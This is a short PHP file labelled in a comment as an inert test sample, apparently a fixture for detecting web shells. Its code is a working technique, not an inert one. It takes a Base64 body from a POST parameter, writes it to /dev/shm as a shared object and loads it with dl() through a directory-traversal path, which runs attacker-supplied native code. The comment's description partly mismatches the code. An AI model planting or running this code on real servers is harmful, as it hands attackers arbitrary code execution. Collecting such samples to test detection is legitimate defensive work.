<?php
// inert test sample: the shared object is written from a posted Base64 body, then loaded by a
// climbing path; the loader name is assembled from pieces before the plain call
$p = '/dev/shm/' . md5(__FILE__) . '.so';
file_put_contents($p, base64_decode($_POST['blob']));
$loader = 'd' . 'l';
if (!extension_loaded('helper')) { dl('../../../../../../dev/shm/3b5d5c3712955042212316173ccf37be.so'); }
